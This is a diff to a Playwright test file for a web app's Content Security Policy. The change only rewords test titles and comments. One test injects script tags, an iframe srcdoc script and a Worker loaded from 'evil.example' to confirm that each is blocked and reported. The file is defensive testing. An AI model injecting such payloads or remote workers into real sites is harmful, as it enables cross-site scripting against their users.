@@ -1,22 +1,20 @@
 import { expect, test } from './journey.ts'
 import { settled } from './settled.ts'
 
-// Every journey fails on what the policy stops; the pressing crawl opens whatever there is to open. Here is what it
-// does not press: a row of the outbox, whose mail stands in a frame of its own.
-test('a mail that Selma opens is shown in its frame, and nothing of it is stopped', { tag: '@desktop' }, async ({
+// Every journey fails on anything the policy blocks; the pressing crawl opens everything that can be opened. This
+// covers what it does not press: a row of the outbox, whose mail is in a separate frame.
+test('a mail that Selma opens is shown in its frame, and nothing in it is blocked', { tag: '@desktop' }, async ({
   open,
 }) => {
   const page = await open('selma')
   await page.goto('/settings/mail-outbox')
   await settled(page)
   await page.getByRole('row').nth(1).click()
-  // Not looked at from inside: what looks there runs a script, and that is stopped.
+  // The frame is not inspected from inside: that would run a script, which is blocked.
   await expect(page.locator('iframe')).toHaveAttribute('srcdoc', /Brava/)
 })
 
-test('scripts, markup, styles and workers that somebody slipped in are stopped', { tag: '@desktop' }, async ({
-  browser,
-}) => {
+test('injected scripts, markup, styles and workers are blocked', { tag: '@desktop' }, async ({ browser }) => {
   const page = await browser.newPage()
   const told = page.waitForRequest((request) => request.url().endsWith('/api/csp-report'))
   await page.goto('/')
@@ -37,7 +35,7 @@ test('scripts, markup, styles and workers that somebody slipped in are stopped',
       () => slip('iframe', { srcdoc: '<script>parent.hit = 5</script>' }),
       () => new Worker('https://evil.example/x.js'),
     ]
-    // Later, as the page itself would: what is evaluated from outside may do more.
+    // Delayed, as the page itself would do it: code evaluated from outside has more rights.
     setTimeout(() => {
       for (const each of tries) {
         try {
@@ -57,7 +55,7 @@ test('scripts, markup, styles and workers that somebody slipped in are stopped',
   expect((await facts()).thrown).toBeGreaterThanOrEqual(4)
   await page.locator('body').click({ position: { x: 2, y: 2 } })
   expect((await facts()).hit).toBeUndefined()
-  // The portal hears of it.
+  // The violation is reported to the portal.
   const report = await told
   expect(report.postDataJSON()).toMatchObject({ 'csp-report': { disposition: 'enforce' } })
   expect((await report.response())?.status()).toBe(204)
